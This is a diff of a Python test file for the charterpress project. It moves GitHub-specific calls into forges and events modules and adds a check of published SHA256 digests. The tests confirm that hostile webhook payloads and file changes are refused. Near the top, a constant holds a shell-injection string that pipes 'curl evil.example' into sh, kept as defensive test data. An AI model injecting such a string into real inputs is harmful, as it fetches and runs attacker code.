@@ -5,11 +5,14 @@ from __future__ import annotations
 import json
 import time
 import tracemalloc
+from functools import partial
 
 import pytest
 
-from charterpress.forges import github
-from charterpress.forges.github.changed_files import MAX_FILES
+from charterpress import forges
+from charterpress.forges.changed_files import MAX_FILES
+from charterpress.forges.github import events
+from charterpress.forges.published import changed_digests
 from charterpress.model import Finding, Severity
 from charterpress.text.escape import escape_markdown
 from charterpress.text.markdown import to_html
@@ -18,6 +21,7 @@ from recorded import changed, payload
 PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
 SHELL = '"; curl evil.example | sh #'
 HEAD = payload(PULL)["pull_request"]["head"]["sha"]
+read_issue = partial(events.read_issue_event, label="sign-up")
 
 
 # --- Payloads ----------------------------------------------------------------------------------------
@@ -25,15 +29,15 @@ HEAD = payload(PULL)["pull_request"]["head"]["sha"]
 
 def test_a_payload_gives_no_more_than_is_needed():
     """No title, no branch and no name of a person is taken."""
-    asked = github.read_proposal(changed(PULL))
-    assert asked == github.Proposal(
+    asked = events.read_proposal(changed(PULL))
+    assert asked == forges.Proposal(
         number=12,
         repository="harbour-partners/charter",
         base="f95f852bd8fca8fcc58a9a2d6c842781e32a215e",
         head="ec26c3e57ca3a959ca5aad62de7213c562f8c821",
     )
-    form = github.read_issue_event(changed(ISSUE))
-    assert (form.number, form.labels, form.branch) == (31, ("sign-up",), "sign-up/31")
+    form = read_issue(changed(ISSUE))
+    assert (form.number, form.labels) == (31, ("sign-up",))
     assert form.body.startswith("### Name of your organisation\n")
 
 
@@ -86,10 +90,10 @@ BAD_ISSUES = {
     "a closed form": (changed(ISSUE, action="closed"), "event-action"),
 }
 HOSTILE = {
-    **{case: (github.read_proposal, [data], rule) for case, (data, rule) in BAD_PULLS.items()},
-    **{f"form: {case}": (github.read_issue_event, [data], rule) for case, (data, rule) in BAD_ISSUES.items()},
+    **{case: (events.read_proposal, [data], rule) for case, (data, rule) in BAD_PULLS.items()},
+    **{f"form: {case}": (read_issue, [data], rule) for case, (data, rule) in BAD_ISSUES.items()},
     **{
-        case: (github.read_proposal, [changed(RUN), changed("pulls", **values)], rule)
+        case: (events.read_proposal, [changed(RUN), changed("pulls", **values)], rule)
         for case, (values, rule) in BAD_LISTS.items()
     },
 }
@@ -98,7 +102,7 @@ HOSTILE = {
 @pytest.mark.parametrize("case", HOSTILE)
 def test_a_hostile_payload_is_refused_by_name(case):
     read, arguments, rule = HOSTILE[case]
-    with pytest.raises(github.EventError) as refused:
+    with pytest.raises(forges.EventError) as refused:
         read(*arguments)
     assert refused.value.name == rule
 
@@ -106,8 +110,8 @@ def test_a_hostile_payload_is_refused_by_name(case):
 def test_the_pull_request_is_found_for_which_a_workflow_ran():
     """By commit, branch and repository: the payload does not name the one of a fork."""
     listed = changed("pulls")
-    assert github.read_proposal(changed(RUN), listed) == github.read_proposal(changed(PULL))
-    assert github.read_proposal(changed(RUN)) is None
+    assert events.read_proposal(changed(RUN), listed) == events.read_proposal(changed(PULL))
+    assert events.read_proposal(changed(RUN)) is None
 
 
 NOT_THEIRS = {
@@ -121,7 +125,7 @@ NOT_THEIRS = {
 @pytest.mark.parametrize("case", NOT_THEIRS)
 def test_no_other_pull_request_is_answered_for_a_run(case):
     """One that shows the same commit from elsewhere takes nobody's place."""
-    assert github.read_proposal(changed(RUN), changed("pulls", **NOT_THEIRS[case])) is None
+    assert events.read_proposal(changed(RUN), changed("pulls", **NOT_THEIRS[case])) is None
 
 
 def test_a_list_takes_little_memory_whatever_it_holds():
@@ -129,27 +133,27 @@ def test_a_list_takes_little_memory_whatever_it_holds():
     tracemalloc.start()
     try:
         with pytest.raises(
-            github.EventError, match=r"event-large: the payload has more than 1,000,000 values"
+            forges.EventError, match=r"event-large: the payload has more than 1,000,000 values"
         ):
-            github.find_earlier(b"[" + b"{}," * (github.MAX_LIST_BYTES // 3 - 1) + b"1]", "this week")
+            events.find_earlier(b"[" + b"{}," * (events.MAX_LIST_BYTES // 3 - 1) + b"1]", "this week")
         assert tracemalloc.get_traced_memory()[1] < 100_000_000
     finally:
         tracemalloc.stop()
     said = [{"body": ',[{\\"' * 10_000} for _ in range(60)]
-    assert github.find_earlier(json.dumps(said).encode(), "this week") is None
+    assert events.find_earlier(json.dumps(said).encode(), "this week") is None
 
 
 def test_the_newest_site_of_a_commit_is_linked():
     """By numbers alone: whoever proposes something names artifacts as they like, of their own commits."""
     runs = "https://github.com/a/b/actions/runs"
-    assert github.preview_url(changed("artifacts"), "a/b", HEAD) == f"{runs}/9100000123/artifacts/3300000456"
+    assert events.preview_url(changed("artifacts"), "a/b", HEAD) == f"{runs}/9100000123/artifacts/3300000456"
     for other in ({"expired": True}, {"name": "tests"}, {"workflow_run": None}):
         artifacts = changed("artifacts", **{f"artifacts__0__{key}": value for key, value in other.items()})
-        assert github.preview_url(artifacts, "a/b", HEAD).endswith("/3300000111")
-    assert github.preview_url(changed("artifacts"), "a/b", "3" * 40) == ""
+        assert events.preview_url(artifacts, "a/b", HEAD).endswith("/3300000111")
+    assert events.preview_url(changed("artifacts"), "a/b", "3" * 40) == ""
     for wrong in ({"artifacts": "x"}, {"artifacts__0__id": "../1"}, {"artifacts__0__workflow_run__id": -1}):
-        with pytest.raises(github.EventError):
-            github.preview_url(changed("artifacts", **wrong), "a/b", HEAD)
+        with pytest.raises(forges.EventError):
+            events.preview_url(changed("artifacts", **wrong), "a/b", HEAD)
 
 
 # --- Files -------------------------------------------------------------------------------------------
@@ -204,9 +208,9 @@ THERE = ("charter/preamble.md", "charter/themes/tides/index.md", "docs/caf\u00e9
 def test_a_hostile_file_is_refused_by_name(case):
     """With its path, and in one line."""
     path, values, rule = BAD_FILES[case]
-    words = github.ChangedFile(path="charter/charter.yml", mode=FILE, before=FILE)
-    file = github.ChangedFile(**{"path": path, "mode": FILE, **values})
-    found = github.check_changed_files([words, file], "charter", THERE)
+    words = forges.ChangedFile(path="charter/charter.yml", mode=FILE, before=FILE)
+    file = forges.ChangedFile(**{"path": path, "mode": FILE, **values})
+    found = forges.check_changed_files([words, file], "charter", THERE)
     assert (path, rule) in [(finding.path, finding.rule) for finding in found]
     assert {finding.path for finding in found} == {path}
 
@@ -215,8 +219,8 @@ def test_a_hostile_file_is_refused_by_name(case):
 def test_a_name_of_very_many_folders_is_judged_at_once():
     """It is refused for its length; each of its folders was once held against all other names."""
     start = time.process_time()
-    found = github.check_changed_files(
-        [github.ChangedFile(path="a/" * 30_000 + "b", mode="100644")], "charter"
+    found = forges.check_changed_files(
+        [forges.ChangedFile(path="a/" * 30_000 + "b", mode="100644")], "charter"
     )
     assert "name-long" in {each.rule for each in found}
     assert time.process_time() - start < 1
@@ -224,17 +228,17 @@ def test_a_name_of_very_many_folders_is_judged_at_once():
 
 def test_an_honest_proposal_is_not_refused():
     words = [
-        github.ChangedFile(path=f"charter/{name}", mode=FILE)
+        forges.ChangedFile(path=f"charter/{name}", mode=FILE)
         for name in ("themes/tides/x.md", "changes/why.md")
     ]
-    pages = [github.ChangedFile(path=path, mode=FILE, before=FILE) for path in ("docs/about.md", "README.md")]
-    assert github.check_changed_files([*words, *pages], "charter", THERE) == ()
-    (machine,) = github.check_changed_files(
-        [github.ChangedFile(path="mkdocs.yml", mode=FILE)], "charter", THERE
+    pages = [forges.ChangedFile(path=path, mode=FILE, before=FILE) for path in ("docs/about.md", "README.md")]
+    assert forges.check_changed_files([*words, *pages], "charter", THERE) == ()
+    (machine,) = forges.check_changed_files(
+        [forges.ChangedFile(path="mkdocs.yml", mode=FILE)], "charter", THERE
     )
     assert (machine.rule, machine.severity) == ("machine", Severity.WARNING)
-    many = [github.ChangedFile(path=f"docs/{place}.md", mode=FILE) for place in range(MAX_FILES + 1)]
-    assert [finding.rule for finding in github.check_changed_files(many, "charter")] == ["files-many"]
+    many = [forges.ChangedFile(path=f"docs/{place}.md", mode=FILE) for place in range(MAX_FILES + 1)]
+    assert [finding.rule for finding in forges.check_changed_files(many, "charter")] == ["files-many"]
 
 
 # --- Words -------------------------------------------------------------------------------------------
@@ -272,18 +276,18 @@ def finding(**values):
 
 
 def test_a_long_answer_is_cut_with_a_sentence():
-    told = github.CommentContent(
+    told = forges.CommentContent(
         outcome=["x"], changes="word \n" * 40_000, findings=[finding(path="p" * 99)] * 90
     )
-    said = github.comment_body(told)
-    assert len(said) <= github.MAX_COMMENT
+    said = forges.comment_body(told)
+    assert len(said) <= forges.MAX_COMMENT
     assert said.endswith("The check of this proposal shows all of it.*\n")
     assert "- and 50 more\n" in said
 
 
 def test_only_the_robots_own_comment_is_brought_up_to_date():
     """Anybody can write the mark, and the robot can quote it."""
-    mark = github.MARK.format("what this changes")
+    mark = forges.MARK.format("what this changes")
     bot = {"login": "github-actions[bot]", "type": "Bot"}
     theirs = [
         {"id": 1, "user": {"login": "github-actions[bot]", "type": "User"}, "body": mark},
@@ -292,24 +296,39 @@ def test_only_the_robots_own_comment_is_brought_up_to_date():
         {"id": 4, "user": None, "body": mark},
         "x",
     ]
-    assert github.find_earlier(json.dumps(theirs).encode(), "what this changes") is None
+    assert events.find_earlier(json.dumps(theirs).encode(), "what this changes") is None
     pages = json.dumps([theirs, [{"id": 5, "user": bot, "body": f"{mark}\nx"}]]).encode()
-    assert github.find_earlier(pages, "what this changes") == 5
-    with pytest.raises(github.EventError):
-        github.find_earlier(b"<html>", "what this changes")
+    assert events.find_earlier(pages, "what this changes") == 5
+    with pytest.raises(forges.EventError):
+        events.find_earlier(b"<html>", "what this changes")
 
 
 # --- Addresses ---------------------------------------------------------------------------------------
 
 
 def test_a_published_address_is_not_lost():
-    now = github.site_addresses(["index.html", "versions/1.0.0/index.html", "assets/x.css", "charter.json"])
+    now = forges.site_addresses(["index.html", "versions/1.0.0/index.html", "assets/x.css", "charter.json"])
     assert now == ("", "charter.json", "versions/1.0.0/")
     before = "charter.json\nversions/1.0.0/\nversions/0.1.0/\nold/\nassets/y.css\n"
-    assert github.lost_addresses(before, now, "# gone\nold/ # never linked\n") == ("versions/0.1.0/",)
-    assert github.lost_addresses("versions/compare/0.1.0..1.0.0/\nversions/compare/\n", now) == (
+    assert forges.lost_addresses(before, now, "# gone\nold/ # never linked\n") == ("versions/0.1.0/",)
+    assert forges.lost_addresses("versions/compare/0.1.0..1.0.0/\nversions/compare/\n", now) == (
         "versions/compare/",
     )
+
+
+def test_a_published_digest_still_holds():
+    one, two = "a" * 64, "b" * 64
+    now = {"1.0.0/charter.json": one, "1.1.0/charter.json": two}
+    said = {
+        f"{one}  1.0.0/charter.json\n": [],
+        f"{two}  1.0.0/charter.json\n": [
+            f"1.0.0/charter.json was published with the digest {two}, and would have {one}"
+        ],
+        f"{one}  0.9.0/charter.json\n": ["0.9.0/charter.json was published, and is missing"],
+        "<html>\n": ["the published SHA256SUMS has a line that is none: <html>"],
+    }
+    for published, faults in said.items():
+        assert list(changed_digests(published, lambda path: now.get(path, ""))) == faults
 
 
 @pytest.mark.parametrize(
@@ -318,4 +337,4 @@ def test_a_published_address_is_not_lost():
 def test_a_site_is_not_published_where_none_can_be(site):
     """The default is a name that nobody has."""
     with pytest.raises(Exception, match="SITE_URL"):
-        github.require_public_url(site)
+        forges.require_public_url(site)
